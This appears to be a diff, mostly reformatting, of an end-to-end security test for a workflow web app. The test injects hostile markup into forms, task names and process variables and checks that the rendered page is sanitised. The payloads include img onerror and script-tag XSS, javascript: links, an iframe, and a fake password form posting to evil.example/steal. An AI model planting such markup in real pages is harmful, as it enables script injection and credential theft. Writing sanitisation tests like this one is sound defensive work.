@@ -15,15 +15,26 @@ const missing = browserMissing();
 if (missing) console.warn(missing);
 
 const mark = (where: string) => `window.__xss=(window.__xss||[]).concat('${where}')`;
-const payload = (where: string) => `<img src="x" onerror="${mark(where)}"><script>${mark(`${where}-script`)}</script>`
-  + `<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>`
-  + `<a class="evil" href="https://evil.example/${where}">sign in again</a><a class="evil" href="javascript:${mark(`${where}-href`)}">open</a>`;
+const payload = (where: string) =>
+  `<img src="x" onerror="${mark(where)}"><script>${mark(`${where}-script`)}</script>` +
+  `<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>` +
+  `<a class="evil" href="https://evil.example/${where}">sign in again</a><a class="evil" href="javascript:${mark(`${where}-href`)}">open</a>`;
 
 const FORM = {
-  type: 'default', id: 'Form_xss', schemaVersion: 16,
+  type: 'default',
+  id: 'Form_xss',
+  schemaVersion: 16,
   components: [
-    { type: 'html', id: 'Html_owner', content: `<p id="own-text">Dear {{customerName}}</p>${payload('html')}<a id="own-link" href="/tasks">back to tasks</a><iframe src="https://evil.example/frame"></iframe>` },
-    { type: 'text', id: 'Text_owner', text: `Complaint: {{complaint}}\n\n[evil](https://evil.example/md) [own](/tasks)\n\n${payload('text')}` },
+    {
+      type: 'html',
+      id: 'Html_owner',
+      content: `<p id="own-text">Dear {{customerName}}</p>${payload('html')}<a id="own-link" href="/tasks">back to tasks</a><iframe src="https://evil.example/frame"></iframe>`,
+    },
+    {
+      type: 'text',
+      id: 'Text_owner',
+      text: `Complaint: {{complaint}}\n\n[evil](https://evil.example/md) [own](/tasks)\n\n${payload('text')}`,
+    },
     { type: 'textfield', id: 'Field_resolution', key: 'resolution', label: 'Resolution' },
   ],
 };
@@ -32,7 +43,9 @@ const TASK_NAME = `<img src=x onerror="${mark('task-name')}">Review`;
 const MODEL = definitions('xss', [
   start('S'),
   `<bpmn:userTask id="Task_review" name="${escapeXml(TASK_NAME)}"><bpmn:extensionElements><zeebe:assignmentDefinition candidateGroups="cs-agents" /><zeebe:formDefinition formKey="Form_xss" /></bpmn:extensionElements></bpmn:userTask>`,
-  end('E'), flow('S', 'Task_review'), flow('Task_review', 'E'),
+  end('E'),
+  flow('S', 'Task_review'),
+  flow('Task_review', 'E'),
 ]);
 
 describe.skipIf(missing)('e2e/web: hostile markup in forms, task names and variables', { timeout: 90_000 }, () => {
@@ -45,7 +58,8 @@ describe.skipIf(missing)('e2e/web: hostile markup in forms, task names and varia
     await api(web, 'owner1', 'PUT', '/api/forms/Form_xss', FORM);
     await deployXml(web, MODEL);
     await api(web, 'owner1', 'POST', '/api/instances', {
-      definitionKey: 'xss', businessKey: 'XSS-1',
+      definitionKey: 'xss',
+      businessKey: 'XSS-1',
       variables: { customerName: payload('variable-html'), complaint: payload('variable-text') },
     });
   }, 180_000);
@@ -81,7 +95,9 @@ describe.skipIf(missing)('e2e/web: hostile markup in forms, task names and varia
     expect(await page.locator('.fjs-form input').count()).toBe(1);
     // but no sign-in form, password field, button, frame or link to another origin
     const form = page.locator('.fjs-form');
-    expect(await form.locator('form, input[type=password], input[name=password], button, iframe, script').count()).toBe(0);
+    expect(await form.locator('form, input[type=password], input[name=password], button, iframe, script').count()).toBe(
+      0,
+    );
     expect(await page.locator('a[href^="https://evil"], a[href^="javascript:"], iframe[src*="evil"]').count()).toBe(0);
     await expect(form.locator('.fjs-form-field-text').textContent()).resolves.toContain('sign in again');
   });
@@ -91,7 +107,10 @@ describe.skipIf(missing)('e2e/web: hostile markup in forms, task names and varia
     await context.addInitScript(() => {
       document.addEventListener('securitypolicyviolation', (event) => {
         const w = window as unknown as { __csp?: string[] };
-        w.__csp = [ ...(w.__csp ?? []), `${event.violatedDirective} ${event.blockedURI} ${event.sample} ${event.sourceFile}:${event.lineNumber}` ];
+        w.__csp = [
+          ...(w.__csp ?? []),
+          `${event.violatedDirective} ${event.blockedURI} ${event.sample} ${event.sourceFile}:${event.lineNumber}`,
+        ];
       });
     });
     return context.newPage();
@@ -101,7 +120,11 @@ describe.skipIf(missing)('e2e/web: hostile markup in forms, task names and varia
 // helpers
 
 function handlersInPage(page: Page): Promise<string[]> {
-  return page.evaluate(() => [ ...document.querySelectorAll('*') ].flatMap((el) => [ ...el.attributes ].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName} ${a.name}`)));
+  return page.evaluate(() =>
+    [...document.querySelectorAll('*')].flatMap((el) =>
+      [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName} ${a.name}`),
+    ),
+  );
 }
 
 function violations(page: Page): Promise<string[]> {
